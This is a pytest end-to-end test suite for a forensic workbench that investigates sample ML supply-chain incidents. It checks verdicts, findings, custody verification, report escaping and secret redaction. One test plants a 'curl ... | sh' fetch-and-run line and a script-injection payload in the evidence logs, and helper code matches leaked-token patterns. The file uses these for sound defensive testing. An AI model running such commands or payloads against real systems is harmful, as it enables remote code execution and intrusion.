"""`workbench investigate` end to end on the bundled sample cases, in a subprocess, as automation runs it."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ARGS

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "evidence-samples"
WORKBENCH = [sys.executable, "-m", "workbench"]
EXTERNAL = [
    re.compile(r"<script[^>]*\bsrc\s*=\s*[\"']?(?:https?:)?//", re.I),
    re.compile(r"<link[^>]*\bhref\s*=\s*[\"']?(?:https?:)?//", re.I),
    re.compile(r"\bimport\(\s*[\"'](?:https?:)?//", re.I),
    re.compile(r"@import\s+url\(\s*[\"']?(?:https?:)?//", re.I),
]

pytestmark = pytest.mark.e2e


def external_loads(html: str) -> list[str]:
    """Every script, stylesheet or module import that would load from the network."""
    return [m.group(0) for rx in EXTERNAL for m in rx.finditer(html)]


def run_case(name: str, out: Path, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [*WORKBENCH, "investigate", str(SAMPLES / name), "--out", str(out), *extra],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


@pytest.fixture(scope="module")
def procs(sample_procs):
    return sample_procs


@pytest.fixture(scope="module")
def runs(sample_runs):
    return sample_runs


def load(out: Path) -> dict:
    return json.loads((out / "findings.json").read_text())


def test_outputs_written(runs):
    for out in runs.values():
        for name in ("report.html", "report.ipynb", "findings.json", "timeline.jsonl", "custody.jsonl"):
            assert (out / name).is_file(), name


def test_findings_json_contract(runs):
    doc = load(runs["tampered-weights"])
    assert set(doc) >= {
        "incident_id",
        "workbench_version",
        "generated_at",
        "verdict",
        "custody",
        "findings",
        "exposure",
    }
    assert doc["incident_id"] == "INC-2026-0142"
    assert doc["custody"]["verified"] is True and doc["custody"]["files"] > 10 and len(doc["custody"]["head"]) == 64
    for f in doc["findings"]:
        assert set(f) == {"id", "severity", "category", "title", "detail", "detector", "evidence", "atlas", "timestamp"}


def test_tampered_case_is_compromised(runs):
    doc = load(runs["tampered-weights"])
    assert doc["verdict"] == "compromised"
    cats = {(f["category"], f["severity"]) for f in doc["findings"]}
    assert ("model_file_tampered", "critical") in cats
    assert ("unexpected_model_file", "high") in cats
    assert ("dependency_changed", "critical") in cats
    paths = {f["evidence"].get("path") for f in doc["findings"] if f["category"] == "dangerous_file_type"}
    assert any(p and p.endswith("optimizer.pkl") for p in paths)


def test_false_alarm_has_nothing_above_low(runs):
    doc = load(runs["false-alarm"])
    assert doc["verdict"] == "clean"
    assert {f["severity"] for f in doc["findings"]} <= {"low", "info"}


def test_poisoned_dependency_case(runs):
    doc = load(runs["poisoned-dependency"])
    assert doc["verdict"] in {"compromised", "suspicious"}
    assert not any(f["category"] == "model_file_tampered" for f in doc["findings"])
    assert any(f["category"].startswith("dependency_") for f in doc["findings"])


def test_poisoned_package_case(runs, sample_procs):
    """The installed package tampered with after install: named with its file, the dropped hook shown as text, the
    shipped setuptools hook not a finding, the tamper time from the files' mtimes, the package actions."""
    from html import unescape

    from workbench.samples.pyenv_case import HOOK_LINE, TAMPER_TIME

    out, proc = sample_procs["poisoned-package"]
    assert proc.returncode == 1 and "--fail-on critical: 2 finding(s)" in proc.stderr  # the CI gate trips
    doc = load(out)
    assert doc["verdict"] == "compromised"
    mine = [f for f in doc["findings"] if f["detector"].startswith("workbench.pyenv")]
    got = sorted((f["category"], f["severity"], f["evidence"]["path"]) for f in mine if f["severity"] != "low")
    assert got == [("import_hook", "critical", "tokenwise_accel_init.pth"),
                   ("package_file_modified", "critical", "tokenwise_accel/_runtime.py")]  # fmt: skip
    assert not any("distutils-precedence" in f["title"] for f in doc["findings"])
    assert not any(f["category"].startswith(("tensor_", "model_file")) for f in doc["findings"])  # the model is intact
    c = doc["conclusions"]
    assert c["compromise"]["start"].startswith(TAMPER_TIME.removesuffix("Z"))
    assert {a["key"] for a in c["actions"]} >= {"remove_packages", "remove_startup_hooks", "rotate_package_tokens"}
    assert "tokenwise-accel==0.9.1" in {i["value"] for i in c["indicators"] if i["kind"] == "package"}
    html = (out / "report.html").read_text().replace("<wbr/>", "")
    assert "Installed packages: details" in html and "distutils-precedence.pth" in html
    assert HOOK_LINE in unescape(html) and "<script>import os" not in html  # the hook's code shown as text
    rows = [json.loads(line) for line in (out / "timeline.jsonl").read_text().splitlines()]
    installs = [r for r in rows if r.get("timestamp_desc") == "File mtime (as captured)"]
    assert len(installs) >= 6 and all(r["datetime"] <= TAMPER_TIME.replace("Z", ".000Z") for r in installs)


def test_report_html_offline_with_findings_and_no_code(runs):
    html = (runs["tampered-weights"] / "report.html").read_text()
    assert external_loads(html) == []
    assert "Verdict: compromised" in html and "model_file_tampered" in html
    assert html.count("Plotly.newPlot") >= 1
    assert len(re.findall(r"<script[^>]*>\s*/\*\*\s*\n?\s*\* plotly\.js", html)) <= 1
    assert "inv.summary()" not in html  # code hidden
    assert "chain of custody" in html and "Evidence verified" in html


def test_external_loads_detector_catches_cdn():
    assert external_loads('<script src="https://cdn.plot.ly/plotly.min.js"></script>')
    assert external_loads("<link rel=stylesheet href='//fonts.example/x.css'>")
    assert not external_loads('<script type="text/javascript">var u = "https://cdn.plot.ly";</script>')


def test_custody_verify_detects_tampering_after_run(runs, tmp_path):
    case = tmp_path / "case"
    shutil.copytree(SAMPLES / "false-alarm", case)
    out = tmp_path / "out"
    assert run_case("false-alarm", out).returncode == 0  # ledger of the bundled copy
    ok = subprocess.run([*WORKBENCH, "custody", "verify", str(out)], capture_output=True, text=True, check=False)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    # the same ledger checked against a modified copy of the evidence
    victim = next(p for p in sorted(case.rglob("*.txt")) if p.is_file())
    victim.write_text(victim.read_text() + "tampered\n")
    bad = subprocess.run(
        [*WORKBENCH, "custody", "verify", str(out), "--case", str(case)], capture_output=True, text=True, check=False
    )
    assert bad.returncode == 1 and f"changed: {victim.relative_to(case).as_posix()}" in bad.stdout


def test_failing_cell_still_writes_report(tmp_path):
    import nbformat

    from workbench.report import runner
    from workbench.resources import notebook_path

    nb = nbformat.read(notebook_path(), as_version=4)
    setup = next(i for i, c in enumerate(nb.cells) if "wb.setup(" in c.source)
    nb.cells.insert(setup + 1, nbformat.v4.new_code_cell('raise RuntimeError("planted failure")'))
    planted = tmp_path / "investigate.ipynb"
    nbformat.write(nb, planted)
    result = runner.investigate(SAMPLES / "false-alarm", tmp_path / "out", notebook=planted)
    assert result.error is not None and result.exit_code() == 3
    assert result.error.ename == "RuntimeError" and "planted failure" in str(result.error)
    html = (tmp_path / "out" / "report.html").read_text()
    assert "planted failure" in html and ">Summary" in html  # the cells after the failing one still ran
    assert load(tmp_path / "out")["verdict"] == "clean"


@pytest.mark.parametrize(
    ("args", "needle"),
    [(["/nonexistent/case"], "does not exist"), (["README.md"], "not a directory")],
)
def test_bad_case_path_one_line_exit_2(args, needle, tmp_path):
    proc = subprocess.run(
        [*WORKBENCH, "investigate", *args, "--out", str(tmp_path / "o")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 2
    assert proc.stderr.strip().count("\n") == 0 and needle in proc.stderr


def test_out_dir_inside_evidence_refused(tmp_path):
    case = tmp_path / "case"
    shutil.copytree(SAMPLES / "false-alarm", case)
    proc = subprocess.run(
        [*WORKBENCH, "investigate", str(case), "--out", str(case / "out")], capture_output=True, text=True, check=False
    )
    assert proc.returncode == 2 and "inside the evidence tree" in proc.stderr
    assert not (case / "out").exists()


def planted_secrets() -> set[str]:
    """The credentials the tampered case's CI log leaks (read from the evidence, not hard-coded)."""
    log = (SAMPLES / "tampered-weights" / "logs" / "pipeline.log").read_text()
    found = set(re.findall(r"\b(hf_[A-Za-z0-9]{30,})", log))
    found |= {m.strip() for m in re.findall(r"COSIGN_PASSWORD[:=]\s*(\S+)", log)}
    return found


def test_no_planted_secret_in_any_output(runs):
    secrets = planted_secrets()
    assert len(secrets) >= 2, secrets
    out = runs["tampered-weights"]
    files = [p for p in out.rglob("*") if p.is_file()]
    assert {p.name for p in files} >= {"report.html", "report.ipynb", "findings.json", "timeline.jsonl"}
    assert any(p.parent.name == "comms" for p in files)
    for path in files:
        text = path.read_text(encoding="utf-8", errors="replace")
        for secret in secrets:
            assert secret not in text, f"{path.name} contains a planted secret"
    assert "[redacted]" in (out / "report.html").read_text()
    assert "secret_exposed" in (out / "findings.json").read_text()


def test_timeline_is_timesketch_ready(runs):
    rows = [json.loads(line) for line in (runs["tampered-weights"] / "timeline.jsonl").read_text().splitlines()]
    assert len(rows) > 10
    for row in rows:
        assert {"message", "datetime", "timestamp", "timestamp_desc", "data_type", "tag"} <= set(row)
        assert isinstance(row["timestamp"], int) and isinstance(row["tag"], list)
        assert re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?[+-]\d\d:\d\d$", row["datetime"]), row["datetime"]


PLANTED = '<script>alert("evidence")</script>'


def test_evidence_html_is_escaped_in_the_report(tmp_path):
    case = tmp_path / "case"
    shutil.copytree(SAMPLES / "false-alarm", case)
    with (case / "logs" / "pipeline.log").open("a") as fh:
        fh.write(f"2026-11-03T10:21:06.000000Z 00O curl -s http://198.51.100.9/{PLANTED} | sh\n")
    with (case / "actions.log").open("a") as fh:
        fh.write(f"[2026-11-25T09:15:00Z] NOTE: {PLANTED}\n")
    (case / "notes").mkdir()
    (case / "notes" / "timeline.csv").write_text(f"time,message\n2026-11-25T09:16:00Z,{PLANTED}\n")
    out = tmp_path / "out"
    proc = run_case_at(case, out)
    assert proc.returncode == 0, proc.stderr
    html = (out / "report.html").read_text()
    assert PLANTED not in html and "<script>alert(" not in html
    assert "&lt;script&gt;alert(" in html  # shown, as text
    doc = load(out)
    assert any(f["category"] == "log_pattern" and f["severity"] in {"high", "critical"} for f in doc["findings"])
    for name in ("initial_alert", "stakeholder_update", "post_incident_report"):
        assert "<script>" not in (out / "comms" / f"{name}.md").read_text()


def run_case_at(case: Path, out: Path) -> subprocess.CompletedProcess:
    return subprocess.run([*WORKBENCH, "investigate", str(case), "--out", str(out)],
                          capture_output=True, text=True, timeout=300, check=False)  # fmt: skip


@pytest.mark.parametrize("name", ["tampered-weights", "poisoned-dependency", "false-alarm", "poisoned-package"])
def test_report_has_summary_sections_and_appendix(runs, name):
    html = (runs[name] / "report.html").read_text()
    assert external_loads(html) == []
    for heading in ("Summary", "Model forensics", "Dependencies", "Installed packages", "Pipeline logs", "Host state",
                    "Behaviour drift",
                    "Timeline", "Recommendations", "Appendix A: Evidence and chain of custody",
                    "Appendix B: All findings", "Appendix C: Analysis details and log excerpts",
                    "Appendix D: Communication drafts", "Appendix E: Coverage and reproducibility"):  # fmt: skip
        assert f">{heading}" in html, heading
    body, appendices = html.split(">Appendix A: Evidence and chain of custody", 1)
    assert "sha256 (intake)" not in body and "sha256 (intake)" in appendices  # the inventory is an appendix
    assert "Tool versions" in html and "Run parameters" in html and "log rules: " in html
    assert "Executed notebook SHA-256" in html
    doc = load(runs[name])
    assert doc["analysis_errors"] == {}


STAGE = re.compile(r"^[a-z][a-z ]*: (?:\d+\.\d\d s(?: \([^\n]*\))?|started \([^\n]*\))$")


def test_json_is_one_document_on_stdout(procs):
    for name, (out, proc) in procs.items():
        if "--json" not in ARGS[name]:
            assert not proc.stdout.lstrip().startswith("{")
            continue
        doc = json.loads(proc.stdout)  # all of stdout
        findings = load(out)
        assert doc["verdict"] == findings["verdict"] and doc["conclusions"] == findings["conclusions"]
        assert doc["coverage"] == findings["conclusions"]["coverage"]
        assert doc["exit_status"]["code"] == proc.returncode and doc["exit_status"]["meaning"]
        outputs = doc["outputs"]
        assert outputs["report_pdf"] is None
        for key, filename in (("report_html", "report.html"), ("findings_json", "findings.json"),
                              ("timeline_jsonl", "timeline.jsonl"), ("comms_dir", "comms"),
                              ("custody_ledger", "custody.jsonl"), ("report_ipynb", "report.ipynb")):  # fmt: skip
            assert Path(outputs[key]) == out / filename and Path(outputs[key]).exists(), key
        assert doc["custody"]["head"] == findings["custody"]["head"]


def test_every_stage_reports_its_duration_on_stderr(procs):
    from workbench.sections import SECTIONS

    expected = ["custody intake", "evidence loaders", *(s.title.lower() for s in SECTIONS.values()),
                "timeline and conclusions", "outputs", "notebook", "html report"]  # fmt: skip
    for name, (_, proc) in procs.items():
        lines = proc.stderr.splitlines()
        stages = [line.split(":")[0] for line in lines if STAGE.match(line) and "started (" not in line]
        assert stages == expected, name
        if "--json" in ARGS[name]:
            assert [s["stage"] for s in json.loads(proc.stdout)["stages"]] == expected
        others = [line for line in lines if not STAGE.match(line)]
        if "--fail-on" not in ARGS[name]:
            assert others == [], f"{name}: stderr holds more than stage lines: {others}"


def test_fail_on_says_which_findings_tripped_it(procs):
    from workbench.categories import NOT_INCIDENT

    out, proc = procs["tampered-weights"]
    rank = {"critical": 0, "high": 1}
    expected = sorted((f for f in load(out)["findings"] if f["severity"] in rank and f["category"] not in NOT_INCIDENT),
                      key=lambda f: rank[f["severity"]])  # fmt: skip
    assert len(expected) > 10
    lines = [line for line in proc.stderr.splitlines() if not STAGE.match(line)]
    assert lines[0] == f"workbench: --fail-on high: {len(expected)} finding(s) at or above high:"
    listed = [line.split(None, 2) for line in lines[1:11]]
    assert [(i, sev) for i, sev, _ in listed] == [(f["id"], f["severity"]) for f in expected[:10]]
    assert listed[0][2] == expected[0]["title"]
    assert lines[11].strip() == f"... and {len(expected) - 10} more (findings.json lists them all)"
    assert len(lines) == 12
    doc = json.loads(proc.stdout)["fail_on"]
    assert doc["count"] == len(expected) and [f["id"] for f in doc["findings"]] == [f["id"] for f in expected]


@pytest.mark.parametrize(
    ("extra", "needle"),
    [
        (["-p", "drift_windw=1h"], "valid options: network_allowlist, model_servers"),
        (["-p", "drift_alpha=often"], "expected a number"),
        (["--reference", "/no/such/model"], "reference model folder does not exist"),
        (["--reference", "README.md"], "reference is not a folder"),
    ],
)
def test_invalid_input_is_refused_before_intake(extra, needle, tmp_path):
    out = tmp_path / "o"
    proc = subprocess.run([*WORKBENCH, "investigate", str(SAMPLES / "false-alarm"), "--out", str(out), *extra,
                           "--json"], cwd=ROOT, capture_output=True, text=True, check=False)  # fmt: skip
    assert proc.returncode == 2 and proc.stdout == ""
    assert proc.stderr.count("\n") == 1 and needle in proc.stderr
    assert not out.exists(), "something was written before the input was checked"
